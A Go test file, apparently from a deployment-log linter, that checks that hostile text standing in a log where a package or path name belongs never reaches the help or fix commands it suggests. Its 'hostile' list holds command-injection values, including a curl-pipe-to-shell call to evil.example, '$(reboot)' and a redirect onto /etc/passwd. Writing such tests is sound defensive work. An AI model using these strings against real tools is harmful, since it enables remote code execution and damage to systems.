package logs

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/tools/txtar"

	"github.com/proclint/proclint/lint"
	"github.com/proclint/proclint/lint/logs/lex"
	"github.com/proclint/proclint/lint/logs/mask"
	"github.com/proclint/proclint/lint/repository"
)

// hostile are texts that a log may have in place of a name, and that do more than a name in a shell.
var hostile = []string{"a;curl${IFS}evil.example|sh", "x&&reboot", "`reboot`", "$(reboot)", "-rf", "evil>/etc/passwd"}

// runs reports whether a text in Markdown has a text in code that a person may run: not where the code only names it.
func runs(markdown, text string) bool {
	parts := strings.Split(markdown, "`")
	for i, code := range parts {
		before := parts[max(0, i-1)]
		quotes := !strings.Contains(code, " ") && !strings.HasSuffix(strings.ToLower(before), "run ")
		if i%2 == 1 && strings.Contains(code, text) && !quotes {
			return true
		}
	}
	return false
}

// checkCommands reports what of a text a person may run in a diagnosis.
func checkCommands(t *testing.T, from, text string, d *Diagnosis) {
	t.Helper()
	for _, c := range d.Causes {
		if strings.Contains(c.Help, text) && runs(c.Help, text) {
			t.Errorf("%s: the help of %s is %s", from, c.Name, c.Help)
		}
		for _, f := range c.Fixes {
			if strings.Contains(f.Command, text) || strings.Contains(f.Diff, "+"+text) {
				t.Errorf("%s: %s has the fix %+v", from, c.Name, f)
			}
		}
	}
}

// withValues is a log whose values, as the table captures them, are another text.
func withValues(table *Table, log, text string) (changed string, any bool) {
	tried := table.attempts()
	raw := strings.Split(log, "\n")
	lex.EachLine(log, &mask.Masker{}, func(l *lex.Line) {
		if l.Number >= len(raw) {
			return
		}
		m, _ := table.find(l, tried)
		if m.Message == nil || len(m.Is) == 0 {
			return
		}
		for i, part := range m.pattern.parts {
			if value := m.values[i]; len(value) > 2 && part.kind != numberPart && strings.Count(raw[l.Number], value) == 1 {
				raw[l.Number] = strings.Replace(raw[l.Number], value, text, 1)
				any = true
			}
		}
	})
	return strings.Join(raw, "\n"), any
}

// TestNoTextOfALogBecomesACommand: whatever text is in the place of a name, neither the help nor a fix has it in what a person runs.
func TestNoTextOfALogBecomesACommand(t *testing.T) {
	table, err := Load(tableFiles(t))
	if err != nil {
		t.Fatal(err)
	}
	tried := 0
	for i, m := range table.Messages {
		for _, line := range m.Lines[:min(len(m.Lines), 1)] {
			text := hostile[i%len(hostile)]
			if log, changed := withValues(table, line, text); changed {
				tried++
				checkCommands(t, log, text, table.Of(log, nil))
			}
		}
	}
	paths, err := filepath.Glob("testdata/cases/*.txtar")
	if err != nil || len(paths) == 0 {
		t.Fatalf("no cases: %v", err)
	}
	for i, path := range paths {
		ar, err := txtar.ParseFile(path)
		if err != nil {
			t.Fatal(err)
		}
		in := lint.Input{Path: "Procfile"}
		list := repository.List{Texts: map[string]string{}}
		log := ""
		for _, f := range ar.Files[1:] {
			if f.Name == "log" {
				log = string(f.Data)
				continue
			}
			list.Listed = append(list.Listed, f.Name)
			list.Texts[f.Name] = string(f.Data)
			if f.Name == "Procfile" {
				in.Source = f.Data
			}
		}
		in.Repository = repository.New(list, "")
		text := hostile[i%len(hostile)]
		if log, changed := withValues(table, log, text); changed {
			tried++
			checkCommands(t, path, text, table.Of(log, &in))
		}
	}
	if tried < 1400 {
		t.Errorf("only %d logs are tried", tried)
	}
}

// TestNamesOfEcosystems: the grammars take real names, and nothing that a shell reads otherwise.
func TestNamesOfEcosystems(t *testing.T) {
	for _, test := range []struct {
		code, hole string
		legal, not []string
	}{
		{"npm install <module>", "module", []string{"express", "@nestjs/core", "lodash.get", "JSONStream", "socket.io@4.7.2", "p-queue"}, []string{"@a/b/c", "../x", "-g", "a b", "a\nb", "a?b"}},
		{"pip install <package>", "package", []string{"Flask", "discord.py", "psycopg2-binary", "uvicorn[standard]", "django==5.0.1"}, []string{"-r", "a/b", "x==", "flask<2;ls", "git+https://x"}},
		{"gem install <gem>", "gem", []string{"rails", "aws-sdk-s3", "net-http"}, []string{"a/b", "-v"}},
		{"bundle update <gem>", "gem", []string{"pg"}, []string{"pg,x", "$x"}},
		{"apt-get install -y <apt>", "apt", []string{"libpq-dev", "g++", "libstdc++6", "libpq-dev gcc"}, []string{"-y", "a;b"}},
		{"apk add <package>", "package", []string{"py3-pip", "postgresql16-client"}, []string{"--x", "a|b"}},
		{"go get <package>", "package", []string{"github.com/gorilla/mux", "golang.org/x/tools@v0.1.0", "gopkg.in/yaml.v3"}, []string{"-x", "a//b", "a b"}},
		{"gb vendor fetch <package>", "package", []string{"github.com/gorilla/mux"}, []string{"-x", "a b"}},
		{"mvn dependency:get <package>", "package", []string{"org.postgresql:postgresql", "junit:junit:4.13"}, []string{"a:b:c:d", "a;b"}},
		{"composer require <package>", "package", []string{"laravel/framework", "ext-gd"}, []string{"a/b/c", "a b"}},
		{"mix deps.update <package>", "package", []string{"phoenix_live_view"}, []string{"a/b"}},
		{"cargo add <package>", "package", []string{"serde_json", "tokio"}, []string{"-x", "a/b"}},
		{"dotnet add package <package>", "package", []string{"Newtonsoft.Json"}, []string{"a b"}},
		{"chmod +x <path>", "path", []string{"bin/start", "./run.sh", "/app/x.py"}, []string{"-R", "a b", "~/x;y", "$HOME", "a*"}},
		{"fly secrets unset <variable>", "variable", []string{"DATABASE_URL", "a1"}, []string{"1A", "A-B", "A=B", "A;B"}},
		{"dokku ports:add x http:80:<port>", "port", []string{"80", "65535"}, []string{"x", "-1", "123456"}},
		{"heroku buildpacks:add --index 1 <buildpack>", "buildpack", []string{"heroku/nodejs", "https://github.com/heroku/heroku-buildpack-apt.git"}, []string{"-x", "https://x/$(y)", "a b"}},
	} {
		g := typeOf(test.code, test.hole)
		for _, text := range test.legal {
			if !g.isLegal(text) {
				t.Errorf("%s: %q isn't legal", test.code, text)
			}
		}
		for _, text := range slices.Concat(test.not, hostile) {
			if g.isLegal(text) {
				t.Errorf("%s: %q is legal", test.code, text)
			}
		}
	}
}

// tableFiles are the files of the table, one after the other.
func tableFiles(t *testing.T) string {
	t.Helper()
	paths, err := filepath.Glob("messages/*/*.txt")
	if err != nil || len(paths) == 0 {
		t.Fatalf("the table has no files: %v", err)
	}
	var b strings.Builder
	for _, path := range paths {
		if strings.Contains(path, "testdata") {
			continue
		}
		data, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		b.Write(data)
		b.WriteString("\n")
	}
	return b.String()
}
